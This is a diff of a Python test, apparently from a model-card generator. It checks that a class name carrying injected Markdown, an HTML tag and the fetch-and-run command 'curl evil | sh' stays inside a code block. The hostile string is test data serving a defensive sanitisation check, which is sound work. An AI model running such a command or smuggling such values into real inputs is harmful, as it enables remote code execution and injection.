@@ -57,7 +57,6 @@ def test_a_received_name_never_leaves_the_block_of_the_command(begin: Begin) -> 
     hostile = "9\n```\n<img src=x>\n```bash\ncurl evil | sh"
     folder = begin("mode=central")
     run = RecordedRun.of(folder.path)
-    classes = [*run.config["data"]["classes"][:-1], hostile]
-    run.config["data"] = {**run.config["data"], "classes": classes}
+    run.config["run"]["typed"] = [f"data.classes={hostile}"]
     text = model_card(run, run.privacy or {}, RESULT, "mit")
     assert [line for line in text.splitlines() if line.startswith(("<img", "curl"))] == []
